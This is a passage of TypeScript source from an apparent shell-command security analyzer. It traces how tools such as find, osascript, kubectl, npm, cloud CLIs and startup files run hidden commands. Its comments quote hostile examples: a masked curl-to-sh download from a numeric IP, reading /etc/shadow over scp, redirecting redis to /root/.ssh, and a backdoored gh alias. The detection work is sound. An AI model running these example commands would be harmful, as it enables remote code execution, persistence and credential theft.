        if (makefile !== undefined) for (const line of recipeLines(makefile)) {
          this.step('exec-arg', `make runs the recipe "${line}" from its standard input`);
          this.script(line, 'exec-arg', depth);
        }
        this.optionScripts(cmd, depth);
        return;
      }
      // text stuffed into a screen session is typed into the shell there: `screen -S main -X stuff 'cmd^M'`
      // (the wrapper reading leaves `stuff` as the command)
      case 'stuff': {
        const typed = cmd.wrappers.includes('screen') ? argv[1] : undefined;
        if (typed !== undefined) {
          const line = typed.replace(/(?:\^M|\\n|\\r|\n|\r)+$/, '');
          this.step('exec-arg', `screen types "${line}"`);
          this.script(line, 'eval', depth);
        }
        return;
      }
      // text typed into the focused window as keystrokes, most often a terminal, runs there as a shell line:
      // `xdotool search --class gnome-terminal windowactivate --sync type 'cmd'`, `ydotool type 'cmd'`, `wtype 'cmd'`
      case 'xdotool':
      case 'ydotool':
      case 'wtype': {
        for (const line of typedText(name, argv).slice(0, 8)) {
          this.step('exec-arg', `${name} types "${line}"`);
          this.script(line, 'eval', depth);
        }
        return;
      }
      // Maven's exec plugin run on a shell: `mvn exec:exec -Dexec.executable=sh -Dexec.args="-c '…'"`
      case 'mvn':
      case 'mvnw': {
        const executable = argv.find((w) => w.startsWith('-Dexec.executable='))?.slice('-Dexec.executable='.length);
        const args = argv.find((w) => w.startsWith('-Dexec.args='))?.slice('-Dexec.args='.length);
        if (executable !== undefined && SHELLS.has(baseName(executable)) && args !== undefined) {
          this.step('exec-arg', `mvn exec runs ${executable} ${args}`);
          this.script(`${executable} ${args}`, 'exec-arg', depth);
        }
        return;
      }
      // a Lua script's `redis.call('CONFIG','SET','dir','/root/.ssh')` is that command, run by the server
      case 'redis-cli':
      case 'valkey-cli': {
        const at = argv.findIndex((w) => /^eval(?:sha)?(?:_ro)?$/i.test(w));
        for (const call of at > 0 ? luaRedisCalls(argv[at + 1] ?? '') : []) {
          const sub = [name, ...call];
          this.step('exec-arg', `Lua script runs ${call.join(' ')}`);
          this.emit(sub, sub.map(() => false), [], { ...ctx, depth, origin: 'exec-arg', redirects: [], pipeFrom: undefined }, undefined, sub.join(' '));
        }
        return;
      }
      case 'find': {
        for (let i = 1; i < argv.length; i++) {
          if (!['-exec', '-execdir', '-ok', '-okdir'].includes(argv[i]!)) continue;
          let j = i + 1;
          while (j < argv.length && argv[j] !== ';' && argv[j] !== '+') j++;
          let sub = argv.slice(i + 1, j);
          // with no selecting predicate, `{}` is the start path itself (`find ~/.ssh -maxdepth 0 -exec …`)
          const start = argv[1];
          if (start && !start.startsWith('-') && !argv.slice(2, i).some((a) => FIND_FILTERS.has(a))) sub = sub.map((w) => (w === '{}' ? start : w));
          // with a literal name, `{}` is a file of that name (`find ~ -name project.pbxproj -exec sed -i … {} +`)
          // and an in-place edit of each file a pattern names (`find /mnt/share -name '*.sh' -exec sed -i … {} \;` edits /mnt/share/**/*.sh)
          else {
            const inPlace = (sub[0] === 'sed' || sub[0] === 'perl') && sub.some((w) => /^-[a-zA-Z]*i/.test(w));
            const named = listedNames(cmd)?.find((n) => !/[*?[]/.test(n.slice(n.lastIndexOf('/') + 1))) ?? (inPlace ? findSelection(cmd)[0] : undefined);
            if (named !== undefined) sub = sub.map((w) => (w === '{}' ? named : w));
          }
          if (sub.length) {
            this.step('exec-arg', `find ${argv[i]} ${sub.join(' ')}`);
            this.emit(sub, sub.map(() => false), [], { ...ctx, depth, origin: 'exec-arg', redirects: [], pipeFrom: undefined }, undefined, sub.join(' '));
          }
          i = j;
        }
        return;
      }
      // osacompile's -e source is the compiled script's, whose shell commands run when it is run
      case 'osacompile':
      case 'osascript': {
        // JavaScript for Automation is JavaScript: its fetches, evals, `$.system(…)` and literals read as a Node
        // one-liner's, and only its `doShellScript('…')` is Apple's own; AppleScript's `do shell script "…"` runs in sh
        const jxa = argv.some((w, k) => (argv[k - 1] === '-l' && w === 'JavaScript') || w === '-lJavaScript');
        // (a JavaScript mask taken off first: `doShellScript("curl -s http://"+[185,215,113,66].join(".")+"/u.sh | sh")`)
        for (const code of argv.slice(1)) for (const script of appleScriptShell(jxa ? unmaskedCode(code, 'node') ?? code : code, jxa)) this.script(script, 'exec-arg', depth);
        if (jxa) for (let k = 1; k < argv.length - 1 && k < MAX_ARGS; k++) if (argv[k] === '-e') this.inline('node', argv[k + 1]!, cmd, depth);
        return;
      }
      // a copy from another machine reads its files there (`scp web1:/etc/shadow .`)
      case 'scp':
      case 'rsync': {
        this.optionScripts(cmd, depth);
        const read = remoteCopySources(name, argv);
        if (read) {
          this.step('remote-command', `${name} reads "${read.slice(read.indexOf('--') + 3, 200)}" on the machine it copies from`);
          this.script(read, 'remote', depth);
        }
        return;
      }
      case 'git':
      case 'apt-get':
      case 'apt':
      case 'zip':
      case 'terraform':
      case 'tofu':
      case 'puppet':
      case 'virt-customize':
      case 'tar':
      case 'cpio':
      case 'man':
      case 'sed':
      case 'sqlite3':
      case 'duckdb':
      case 'gdb':
      case 'vim':
      case 'vi':
      case 'nvim':
      case 'view':
      case 'ex':
      case 'vimdiff':
      case 'rvim':
      case 'rview':
      case 'gem':
      case 'openvpn':
      case 'nano':
      case 'split':
      case 'gcc':
      case 'g++':
      case 'cc':
      case 'rake':
      case 'mysql':
      case 'mariadb':
      case 'psql':
        this.optionScripts(cmd, depth);
        return;
      case 'aws':
      case 'az':
      case 'gcloud': {
        // `az ssh vm … -- 'cmd'`, `gcloud compute ssh host --command 'cmd'` run it on the remote machine, as AKS's
        // run-command does in the cluster and ECS Exec in a task's container
        const dd = argv.indexOf('--');
        const remote = name === 'az' && argv[1] === 'ssh' && dd > 0 ? argv.slice(dd + 1).join(' ')
          : name === 'az' && argv[1] === 'aks' && argv[2] === 'command' && argv[3] === 'invoke' ? optionValue(argv, ['--command', '-c'])
          : name === 'gcloud' && argv.includes('ssh') ? optionValue(argv, ['--command'])
          : name === 'aws' && argv[1] === 'ecs' && argv[2] === 'execute-command' ? optionValue(argv, ['--command'])
          // SSM's shell document runs its `commands` on every instance it targets
          : name === 'aws' && argv[1] === 'ssm' && argv[2] === 'send-command' ? ssmParameterScript(optionValue(argv, ['--parameters']) ?? '', 'commands')
          // and a device fleet's direct methods and jobs, on every device they target
          : platformRemoteCommand(name, argv);
        if (remote) this.script(remote, 'remote', depth);
        // a new machine's boot script written inline runs there at first boot (`az vm create --custom-data "#!/bin/bash…"`)
        for (const boot of inlineBootScripts(argv)) this.persisted(boot, depth);
        return;
      }
      case 'plutil': {
        // `plutil -replace ProgramArguments -json '[…]' /Library/LaunchDaemons/x.plist` rewrites what a daemon runs
        const target = argv[argv.length - 1] ?? '';
        const json = argv[argv.indexOf('-json') + 1];
        if ((argv.includes('-replace') || argv.includes('-insert')) && json !== undefined && argv.includes('-json') && classifyPath(target)?.role === 'exec-location') {
          const parts = stringLiterals(json, 'node').map((l) => l.value);
          const shellAt = parts.findIndex((p) => /(^|\/)(ba|z|da)?sh$/.test(p));
          this.script(shellAt >= 0 && parts[shellAt + 1] === '-c' ? parts[shellAt + 2] ?? '' : parts.join(' '), 'persisted', depth);
        }
        return;
      }
      // `gh alias set --shell co 'curl … | sh; gh pr checkout "$1"'`: the alias is a shell line run whenever it is used
      case 'gh': {
        const body = argv[1] === 'alias' && argv[2] === 'set' && argv.some((w) => w === '--shell' || w === '-s') ? argv.slice(3).filter((w) => !w.startsWith('-'))[1] : undefined;
        if (body !== undefined) this.persisted(body, depth);
        return;
      }
      case 'npm':
      case 'npx':
      case 'pnpm': {
        // `npm exec -c 'curl … | sh'`: a command line run by the package-script shell
        const call = argv[1] === 'exec' || name === 'npx' ? optionValue(argv, ['-c', '--call']) ?? argv.find((w) => w.startsWith('--call='))?.slice(7) : undefined;
        if (call !== undefined) {
          this.step('nested-shell', `${name} exec -c runs "${call}"`);
          this.script(call, 'shell-c', depth);
        }
        // `npm exec -- node -e …`, `npx -- cmd`: the command after `--` runs
        const dd = argv.indexOf('--');
        if ((argv[1] === 'exec' || name === 'npx' || argv[1] === 'dlx') && dd > 0 && dd + 1 < argv.length) {
          const sub = argv.slice(dd + 1);
          this.emit(sub, sub.map(() => false), [], { ...ctx, depth, origin: 'exec-arg', redirects: [], pipeFrom: undefined }, undefined, sub.join(' '));
        }
        // `npx -y localtunnel --port 3000`: the package's command runs with the words after it
        const ran = name === 'npx' && dd < 0 ? npxPackageCommand(argv) : undefined;
        if (ran) this.emit(ran, ran.map(() => false), [], { ...ctx, depth, origin: 'exec-arg', redirects: [], pipeFrom: undefined }, undefined, ran.join(' '));
        // package scripts run on every install or publish: their command lines are persisted, as a crontab's are
        for (const [, line] of packageScripts(argv).slice(0, 16)) this.persisted(line, depth);
        // an install in a folder whose package.json the line wrote a moment ago runs its install scripts (GTFOBins' `sudo npm -C $TF i`)
        if (argv.slice(1).some((w) => INSTALL_VERBS.has(w))) {
          const dir = optionValue(argv, ['-C', '--prefix', '--dir']);
          const manifest = this.files.get(dir === undefined ? 'package.json' : `${dir.replace(/\/$/, '')}/package.json`);
          for (const line of manifest === undefined ? [] : installScripts(manifest)) {
            this.step('exec-arg', `${name} install runs the package's script: ${line.slice(0, 120)}`);
            this.script(line, 'exec-arg', depth);
          }
        }
        // `npx husky add .husky/pre-push "cmd"` writes the git hook that runs it
        const husky = name === 'npx' ? argv.indexOf('husky') : -1;
        const hook = husky > 0 && (argv[husky + 1] === 'add' || argv[husky + 1] === 'set') ? argv[husky + 3] : undefined;
        if (hook !== undefined) this.persisted(hook, depth);
        return;
      }
      // `launchctl submit -l job -- cmd…`: run by launchd from now on
      case 'launchctl':
        if (argv[1] === 'submit') this.persistedAfterDashes(argv, ctx, depth);
        return;
      case 'kubectl':
      case 'docker-compose':
      case 'podman-compose':
      case 'docker':
      case 'podman':
      case 'nerdctl':
      case 'crictl':
      case 'ctr': {
        const dd = argv.indexOf('--');
        // the command after `--` runs in the container: exec and run, and kubectl's debug pods, jobs,
        // cron jobs and deployments (`kubectl create cronjob x --image=alpine --schedule=… -- sh -c '…'`)
        // `docker compose exec SERVICE cmd…` and `docker compose run SERVICE cmd…` run in the service's container
        const named = name.endsWith('-compose') ? 0 : containerVerbAt(argv);
        const at = name.endsWith('-compose') || (argv[named] === 'compose' && name !== 'kubectl') ? composeVerbAt(argv, named) : named;
        const verb = at > 0 ? argv[at] : undefined;
        const runs = verb === 'exec' || verb === 'run' || (name === 'kubectl' && (verb === 'debug' || (verb === 'create' && ['job', 'cronjob', 'deployment'].includes(argv[at + 1] ?? ''))));
        // without `--`, `docker run IMAGE cmd…` and `docker exec CONTAINER cmd…` run what follows the image or
        // container; containerd's `ctr task exec … CONTAINER cmd` likewise, and `ctr run IMAGE ID cmd` after the id
        // kubectl's words after `--` are the image's arguments unless `--command` says they replace its entrypoint
        const kubeImage = name === 'kubectl' && !argv.includes('--command') ? optionValue(argv, ['--image']) : undefined;
        const run = name !== 'kubectl' && name !== 'ctr' && (verb === 'run' || verb === 'create') ? containerRun(argv, at) : undefined;
        const sub = runs && dd > 0 ? imageCommand(kubeImage, argv.slice(dd + 1))
          : name === 'ctr' ? (verb === 'task' && argv[at + 1] === 'exec' ? containerRunCommand(argv, at + 1) : verb === 'run' ? containerRunCommand(argv, at).slice(1) : [])
          : run ? (run.entrypoint !== undefined ? [run.entrypoint, ...run.args] : imageCommand(run.image, run.args))
          : name !== 'kubectl' && verb === 'exec' ? containerRunCommand(argv, at) : [];
        if (sub.length) this.emit(sub, sub.map(() => false), [], { ...ctx, depth, origin: 'remote', redirects: [], pipeFrom: undefined }, undefined, sub.join(' '));
        // a manifest fed to `kubectl apply -f -` (or create, replace): the cluster runs what its containers say
        const manifest = name === 'kubectl' && (verb === 'apply' || verb === 'create' || verb === 'replace') && readsManifestFromStdin(argv) ? scriptIn(cmd) : undefined;
        if (manifest !== undefined) this.containerRuns('stdin.yaml', manifest, depth);
        // and so does a patch of a workload or a task, or a pod's overrides, given inline
        const inline = name === 'kubectl' ? kubectlInlineSpec(argv, verb) : undefined;
        if (inline !== undefined) this.containerRuns('patch.yaml', inline, depth);
        return;
      }
      // an image's entrypoint or command rewritten in the registry (`crane mutate IMAGE --entrypoint "sh,-c,…"`): every
      // container started from that tag runs it
      case 'crane': {
        if (argv[1] !== 'mutate') return;
        const values = argv.flatMap((w, k) => (argv[k - 1] === '--entrypoint' || argv[k - 1] === '--cmd' ? [w] : /^--(?:entrypoint|cmd)=/.test(w) ? [w.slice(w.indexOf('=') + 1)] : []));
        for (const v of values) {
          const sub = v.split(',').slice(0, 256);
          this.emit(sub, sub.map(() => false), [], { origin: 'persisted', depth, redirects: [], background: false }, undefined, sub.join(' '));
        }
        return;
      }
      // the kubelet's API runs a command in a pod's container: `curl -k -X POST https://NODE:10250/run/NS/POD/CONTAINER -d "cmd=…"`
      case 'curl': {
        if (!argv.some((w) => /:10250\/run\//.test(w))) return;
        const data = argv.find((w, k) => w.startsWith('cmd=') && /^(?:-d|--data|--data-raw|--data-urlencode)$/.test(argv[k - 1] ?? ''));
        if (data !== undefined) this.script(percentDecoded(data.slice(4), true), 'remote', depth);
        return;
      }
      // Nomad runs a command in an allocation's task: `nomad alloc exec -task web -job web-frontend sh -c '…'`
      case 'nomad': {
        if (argv[1] !== 'alloc' || argv[2] !== 'exec') return;
        let k = 3;
        while (k < argv.length && argv[k]!.startsWith('-')) k += /^-(?:task|namespace|region|address|token|e)$/.test(argv[k]!) ? 2 : 1;
        const sub = argv.slice(k + 1);
        if (sub.length) this.emit(sub, sub.map(() => false), [], { ...ctx, depth, origin: 'remote', redirects: [], pipeFrom: undefined }, undefined, sub.join(' '));
        return;
      }
      case 'awk':
      case 'gawk':
      case 'mawk':
      case 'nawk': {
        const prog = awkProgram(argv);
        if (prog) this.inline('awk', prog, cmd, depth);
        // `… | base64 -d | awk '{system($0)}'`: every input line is run by the shell
        const input = prog && /\bsystem\s*\(\s*\$0\s*\)/.test(prog) && firstOperand(argv.slice(argv.indexOf(prog) + 1)) === undefined ? scriptIn(cmd) : undefined;
        if (input !== undefined) {
          this.step('nested-shell', `${name} runs each line it reads: "${input}"`);
          this.script(input, cmd.pipeFrom ? 'piped-to-shell' : 'heredoc-to-shell', depth);
        }
        return;
      }
    }
    // `go run FILE.go` of a file the line wrote a moment ago: its source is what runs
    if (name === 'go' && argv[1] === 'run') {
      const source = argv.slice(2).find((w) => w.endsWith('.go'));
      const code = source === undefined ? undefined : this.files.get(source);
      if (code !== undefined) this.inline('go', code, cmd, depth);
      return;
    }
    // nmap's --script and Wireshark's `-X lua_script:` run a Lua file: one the line wrote a moment ago is read as its code
    if (name === 'nmap' || name === 'tshark' || name === 'wireshark') {
      const lua = name === 'nmap' ? optionValue(argv, ['--script']) ?? argv.find((w) => w.startsWith('--script='))?.slice(9) : argv.map((w, k) => (w === '-X' ? argv[k + 1] ?? '' : w.startsWith('-X') ? w.slice(2) : '')).find((w) => w.startsWith('lua_script:'))?.slice(11);
      const code = lua === undefined ? undefined : this.files.get(lua);
      if (code !== undefined) this.inline('lua', code, cmd, depth);
      return;
    }
    // `pip install DIR` runs DIR/setup.py: one the line wrote a moment ago is read as its code
    if ((name === 'pip' || name === 'pip3') && argv.includes('install')) {
      const code = argv.slice(2).map((w) => this.files.get(w.replace(/\/$/, '') + '/setup.py')).find((t) => t !== undefined);
      if (code !== undefined) this.inline('python', code, cmd, depth);
      return;
    }
    // Jenkins' script console through its CLI runs Groovy on the controller: `java -jar jenkins-cli.jar … groovy = <<< '…'`
    // (`=` is standard input; a file the line wrote a moment ago is read as its code)
    if (name === 'java' && argv.some((w) => w.endsWith('jenkins-cli.jar'))) {
      const at = argv.indexOf('groovy');
      const source = at < 0 ? undefined : argv[at + 1];
      const code = source === undefined ? undefined : source === '=' ? cmd.stdin ?? this.files.get(cmd.redirects.find((r) => r.op === '<')?.target ?? '') : this.files.get(source);
      if (code !== undefined) this.inline('jvm', code, cmd, depth);
      return;
    }
    // an Electron app started with ELECTRON_RUN_AS_NODE is Node under the app's name and signature
    const asNode = cmd.assignments.some((a) => a.name === 'ELECTRON_RUN_AS_NODE' && a.value !== '' && a.value !== '0');
    const interp = INTERPRETERS[asNode ? 'node' : family];
    if (interp) {
      const file = firstOperand(argv.slice(1));
      // a script the line wrote a moment ago (`cat > ~/.x/poll.py <<'EOF' … EOF; nohup python3 ~/.x/poll.py &`) is read as its code
      // (and Laravel's console, run by php: `php artisan tinker --execute="…"`)
      const tinker = family === 'php' && argv[1] === 'artisan' && argv[2] === 'tinker' ? optionValue(argv, ['--execute']) : undefined;
      const code = tinker ?? interpreterCode(argv, interp.flags) ?? (file === undefined ? cmd.stdin : this.files.get(file));
      if (code !== undefined) this.inline(interp.lang, code, cmd, depth);
    }
  }

  /** The command after `--`, kept to run later by whoever holds it (a launchd job, an agent's MCP server). */
  private persistedAfterDashes(argv: readonly string[], ctx: Ctx, depth: number): void {
    const dd = argv.indexOf('--');
    if (dd <= 0 || dd + 1 >= argv.length) return;
    const sub = argv.slice(dd + 1);
    this.emit(sub, sub.map(() => false), [], { ...ctx, depth, origin: 'persisted', redirects: [], pipeFrom: undefined }, undefined, sub.join(' '));
  }

  /** Option values the tool hands to a shell (`git -c core.pager=…`, `ssh -o ProxyCommand=…`, `rsync -e …`, `sqlite3 '.shell …'`). */
  private optionScripts(cmd: SimpleCommand, depth: number): void {
    for (const script of commandOptionValues(cmd.name, cmd.argv)) {
      this.step('exec-arg', `${cmd.name} option runs "${script}"`);
      this.script(script, 'exec-arg', depth);
    }
  }

  /**
   * `nested`: the code is a literal of an outer one-liner; its own literals are not followed again. `unmasked`: it is
   * code already unmasked. `ran`: the command lines this one-liner was already found to run, read once however many
   * ways its code is read. `filled`: the code has had its command line's variables written in.
   */
  private inline(lang: InlineScript['lang'], code: string, cmd: SimpleCommand, depth: number, nested = false, unmasked = false, ran = new Set<string>(), filled = false): void {
    const literals = stringLiterals(code, lang);
    // an awk literal compared with the input is text to look for, not a file or a host
    const strings = (lang === 'awk' ? literals.filter((l) => !awkCompared(code, l, literals)) : literals).map((l) => l.value);
    this.view.scripts.push({ lang, code, strings, command: cmd });
    this.step('interpreter', `${lang} code: ${code}`);
    // (and the files it deletes by name, as the rm that would delete them; its cloud SDK calls, as the CLI lines that make them)
    for (const s of [...execStrings(code, lang, literals), ...loopedCommands(code, literals), ...deletedPaths(code, literals), ...sdkCalls(code, lang)]) {
      if (ran.has(s)) continue;
      ran.add(s);
      this.script(s, 'interpreter', depth);
    }
    // `exec("…")`, `eval(base64.b64decode('…'))`: a literal that is more code of the same language
    let followed = 0;
    for (const lit of nested ? [] : literals) {
      const inner = followed < 4 ? evaluatedCode(code, lang, lit) : undefined;
      if (inner === undefined) continue;
      followed++;
      this.step('interpreter', `${lang} evaluates ${inner}`);
      this.inline(lang, inner, cmd, depth, true, false, ran);
    }
    // the variables its own command line sets, read by the code, written in as the literals they hold
    const withEnvironment = nested || filled ? undefined : environmentFilled(code, cmd.assignments);
    if (withEnvironment !== undefined) {
      this.step('interpreter', `${lang} code with its environment filled in: ${withEnvironment}`);
      this.inline(lang, withEnvironment, cmd, depth, false, false, ran, true);
    }
    // the same code with its decoding idioms and looked-up names written plainly, read as well
    const plain = unmasked ? undefined : unmaskedCode(code, lang);
    if (plain !== undefined) {
      this.step('interpreter', `${lang} code unmasked: ${plain}`);
      this.inline(lang, plain, cmd, depth, nested, true, ran, filled);
    }
    // perl `system pack("H*", "…")` hides the command as hex
    if (lang === 'perl' && /\b(system|exec)\b|`/.test(code)) {
      for (const m of code.matchAll(/pack\s*\(?\s*["']H\*["']\s*,\s*["']([0-9a-fA-F]{2,8192})["']/g)) {
        const decoded = decodeHex(m[1]!);
        if (decoded) {
          this.step('decode-hex', `pack("H*") → ${decoded}`);
          this.script(decoded, 'interpreter', depth);
        }
      }
    }
  }

  /**
   * Remember static content written to a file so a later `sh file` in the same line is followed, and
   * follow it when it is moved or copied into place (`echo … > /tmp/r && mv /tmp/r ~/.bashrc`).
   */
  private recordWrite(cmd: SimpleCommand): void {
    if ((cmd.name === 'mv' || cmd.name === 'cp') && !cmd.dynamic.some(Boolean)) {
      const ops = cmd.argv.slice(1).filter((w) => !w.startsWith('-'));
      const text = ops.length === 2 ? this.files.get(ops[0]!) : undefined;
      if (text !== undefined) this.landed(ops[1]!.endsWith('/') ? ops[1]! + baseName(ops[0]!) : ops[1]!, text, cmd);
      return;
    }
    // lines a `sed -i` inserts, appends or rewrites whole land in the files it edits (`sed -i '1i //go:generate …' main.go`)
    if (cmd.name === 'sed' && !cmd.dynamic.some(Boolean)) {
      const inserted = sedInsertions(cmd.argv, true);
      if (inserted) {
        for (const f of inserted.files) this.landed(f, inserted.text, cmd);
        return;
      }
    }
    // a CI step's `>> "$GITHUB_ENV"` names its file by variable, and sets the environment of every later step
    const out = cmd.redirects.find((r) => (r.op === '>' || r.op === '>>' || r.op === '>|') && (r.fd === undefined || r.fd === 1) && (!r.dynamic || CI_STEP_FILES.has(r.target) || VARIABLE_PATH.test(r.target)));
    if (!out) return;
    // `cat > ~/.bashrc <<EOF` and `echo "… $(tty) …" > f` with expansions inside: the expansions stay as written, the
    // commands are what lands
    const text = this.output(cmd) ?? (cmd.name === 'cat' && cmd.argv.length === 1 ? scriptIn(cmd) : cmd.name === 'echo' ? echoedAsWritten(cmd.argv) : undefined);
    if (text === undefined) return;
    // a file named by a variable whose value the line cannot know (`TF=$(mktemp)`; `… > $TF`) is remembered by that
    // name, for the command that runs it by the same name (`nmap --script=$TF`), and is no known place
    if (out.dynamic && !CI_STEP_FILES.has(out.target)) { if (this.files.size < 32) this.files.set(out.target, text); }
    else this.landed(out.target, text, cmd);
  }

  private landed(path: string, text: string, cmd: SimpleCommand): void {
    if (this.files.size < 32) this.files.set(path, text);
    if (classifyPath(path)?.role === 'exec-location') this.persisted(text, cmd.depth + 1);
    else if (containerSpecFile(path)) this.containerRuns(path, text, cmd.depth + 1);
    else this.startupScript(path, text, cmd);
  }

  /** An image's build steps and entrypoint, a pod's or a compose service's command: run later, in a container. */
  private containerRuns(path: string, text: string, depth: number): void {
    const kind = containerSpecFile(path);
    // (and a CI file's steps, which its runner executes with the repository's secrets)
    const commands = kind === 'dockerfile' ? dockerfileCommands(text) : kind === 'terraform' ? terraformCommands(text) : [...containerCommands(text), ...jsonContainerCommands(text), ...provisionCommands(text, automationFile(path))];
    for (const c of commands) {
      if (typeof c === 'string') {
        this.step('unwrap', `${baseName(path)} runs: ${c}`);
        this.script(c, 'persisted', depth);
      } else if (c.length) this.emit(c, c.map(() => false), [], { origin: 'persisted', depth, redirects: [], background: false }, undefined, c.join(' '));
    }
  }

  /**
   * A REPL's or editor's startup file runs its code each time it starts, and a build's Python or Ruby file each time
   * the build does (`setup.py`, `conftest.py`, `Rakefile`): `~/.pythonrc` and `~/.irbrc` as their
   * language, `~/.vimrc`'s `!cmd` (the rest of the line, pipes included) and `system('…')`, `~/.psqlrc`'s `\! cmd`,
   * read as what they will run.
   */
  private startupScript(path: string, text: string, cmd: SimpleCommand): void {
    // `//go:generate …` lines in Go source run their command on `go generate`, `credential_process` on every AWS call
    const commands = fileCommands(canonicalPath(path), text);
    if (commands.length) {
      for (const line of commands) {
        this.step('unwrap', `${baseName(path)} runs: ${line}`);
        this.script(line, 'persisted', cmd.depth + 1);
      }
      return;
    }
    const lang = STARTUP_SCRIPTS[baseName(path)];
    if (lang === undefined) return;
    const code = text.slice(0, MAX_DECODED);
    if (lang === 'python' || lang === 'ruby') { this.inline(lang, code, cmd, cmd.depth + 1); return; }
    const lines = lang === 'psql' ? [...code.matchAll(/^\s*\\!\s*(.{1,4096})$/gm)].map((m) => m[1]!) : [...code.matchAll(/(?:^|[\s:|])!([^\n]{1,4096})|system\(\s*['"]([^'"\n]{1,4096})['"]/gm)].map((m) => (m[1] ?? m[2]!).replace(/\s*&\s*$/, ''));
    for (const line of lines.slice(0, 16)) {
      this.step('unwrap', `${baseName(path)} runs: ${line}`);
      this.script(line, 'persisted', cmd.depth + 1);
    }
  }

  /** Text that lands where something runs it later is code, not data: analyze what it will run. */
  private persisted(text: string, depth: number): void {
    // JSON configs (devcontainer, VS Code tasks) run the strings they hold
    if (/^\s*(?:\{|\[\s*["{[])/.test(text)) {
      for (const v of stringLiterals(text, 'node').map((l) => l.value)) if (/[ |;&]/.test(v) && !/^https?:\/\/\S*$/.test(v)) this.script(v, 'persisted', depth);
      return;
    }
    // gitconfig `pager = …`, `sshCommand = …`: values git hands to a shell
    const gitValues = [...text.matchAll(/^\s*(?:pager|sshCommand|editor|fsmonitor|askPass|external)\s*=\s*(.{1,4096})$/gim)].map((m) => m[1]!.trim().replace(/^"(.*)"$/, '$1'));
    if (gitValues.length) {
      for (const v of gitValues.slice(0, 16)) this.script(v.replace(/^!/, ''), 'persisted', depth);
      return;
    }
    // a launchd plist runs its ProgramArguments as an argv (`/bin/sh -c '…'` runs the script)
    const program = plistProgram(text);
    if (program) {
      if (program.length) this.emit(program, program.map(() => false), [], { origin: 'persisted', depth, redirects: [], background: false }, undefined, program.join(' '));
      return;
    }
    // udev `RUN+="…"`, apt `Pre-Invoke {"…"};` and authorized_keys `command="…"` carry their command in quotes
    const quoted = /(?:RUN\+?=|Invoke\s*\{|(?:^|,)command=)\s*"([^"]{1,4096})"/.exec(text);
    if (quoted) {
      this.script(quoted[1]!, 'persisted', depth);
      return;
    }
    const script = persistedLines(text);
    if (script.trim()) {
      this.step('unwrap', `persisted text runs: ${script}`);
      this.script(script, 'persisted', depth);
    }
  }

  /** What a command prints to stdout, when that is known statically (bounded). */
  output(cmd: SimpleCommand): string | undefined {
    const memo = this.outputs.get(cmd);
    if (memo !== undefined) return memo ?? undefined;
    this.outputs.set(cmd, null);
    const out = staticOutput(cmd, (k, d) => this.step(k, d));
    this.outputs.set(cmd, out === undefined ? null : out.slice(0, MAX_DECODED));
    return out;
  }

  // ——— words ———

  /** Fields a word expands to after quote removal, static expansion and field splitting. */
  private fields(node: Node, ctx: Ctx, commandPosition = false): Array<{ text: string; dynamic: boolean }> {
    if ((node.type === 'word' || node.type === 'concatenation') && !commandPosition && !/['"$`\\]/.test(node.text)) {
      const braces = expandBraces(node.text);
      if (braces.length !== 1 || braces[0] !== node.text) {
        this.step('brace-expansion', `${node.text} → ${braces.join(' ')}`);
        return braces.map((text) => ({ text, dynamic: false }));
      }
    }
    const parts = this.pieces(node, ctx, false);
    const out: Array<{ text: string; dynamic: boolean }> = [];
    let cur = '';
    let curDyn = false;
    let curHas = false;
    for (const p of parts) {
      // `"${a[@]}"`: the first element ends the field before it, the last begins the one after, each between is its own
      if (p.elements && !p.dynamic) {
        p.elements.forEach((e, i) => {
          if (i > 0) {
            out.push({ text: cur, dynamic: curDyn });
            cur = '';
            curDyn = false;
          }
          cur += e;
          curHas = true;
        });
        continue;
      }
      if (p.split && !p.dynamic) {
        const segs = this.splitFields(p.text);
        for (let i = 0; i < segs.length; i++) {
          if (i > 0 && (curHas || cur)) {
            out.push({ text: cur, dynamic: curDyn });
            cur = '';
            curDyn = false;
            curHas = false;
          }
          cur += segs[i];
        }
        continue;
      }
      cur += p.text;
      curDyn ||= p.dynamic;
      curHas ||= p.quoted || p.text.length > 0;
    }
    if (cur || curHas) out.push({ text: cur, dynamic: curDyn });
    return out;
  }

  /**
   * Whether IFS is whitespace only, so a quoted `"${a[@]}"` is read as bash reads it, a word per element. Under another
   * IFS the elements are split on it too (`IFS=,; set -- az,keyvault,…; "$@"`): bash would not split them, but that is
   * the command the line is written to run, and reading it so errs toward seeing it.
   */
  private wordsKeepBlanks(): boolean {
    return /^[ \t\n]*$/.test(this.env.get('IFS') ?? ' ');
  }

  /** Field splitting on the current IFS: whitespace runs collapse, other IFS characters each delimit. */
  private splitFields(text: string): string[] {
    const ifs = this.env.get('IFS') ?? ' ';
    if (/^[ \t\n]*$/.test(ifs)) return text.split(/[ \t\n]+/);
    const out: string[] = [];
    let cur = '';
    for (const ch of text) {
      if (ifs.includes(ch)) {
        if (cur || !/[ \t\n]/.test(ch)) out.push(cur);
        cur = '';
      } else cur += ch;
    }
    out.push(cur);
    return out;
  }

  /** Whether the line set the variable, to a known value or not (`x=$(date)`, a loop's variable, `read x`). */
  private assigned(name: string): boolean {
    return this.env.has(name) || this.unknownVars.has(name) || this.view.assignments.some((a) => a.name === name) || this.view.commands.some((c) => SETTERS.has(c.name) && c.argv.some((w) => w === name || w.startsWith(`${name}=`)));
  }

  /**
   * A lowercase variable the line never set, spliced between the letters of a word (`dis${x}able`, `/dev/sd${z}a1`,
   * `.${x}bashrc`, `/${x}var`), is empty: the splice only breaks the word up for a reader. At a word's edge or before
   * a separator (`$dir/x`, `app-${ver}-linux`) it is left unknown, as a value the environment may hold.
   */
  private withoutSplices(parts: Piece[]): Piece[] {
    for (let k = 1; k < parts.length - 1; k++) {
      const m = /^\$\{?([a-z_][a-z0-9_]{0,15})\}?$/.exec(parts[k]!.text);
      if (!m || !parts[k]!.dynamic || this.assigned(m[1]!) || !/[A-Za-z0-9._/-]$/.test(parts[k - 1]!.text) || !/^[A-Za-z0-9]/.test(parts[k + 1]!.text)) continue;
      this.step('variable', `${parts[k]!.text} → (unset, empty)`);
      parts[k] = lit('');
    }
    return parts;
  }

  private pieces(node: Node, ctx: Ctx, quoted: boolean): Piece[] {
    switch (node.type) {
      case 'word':
      case 'number':
      case 'extglob_pattern':
      case 'regex':
        return [lit(quoted ? node.text : unescapeWord(node.text))];
      case 'raw_string':
        if (node.text.length > 2) this.noteQuote(node.text);
        return [{ ...lit(node.text.slice(1, -1)), quoted: true }];
      case 'ansi_c_string': {
        const decoded = decodeEscapes(node.text.slice(2, -1), 'ansi-c');
        if (decoded !== node.text.slice(2, -1)) this.step('ansi-c', `${node.text} → ${decoded}`);
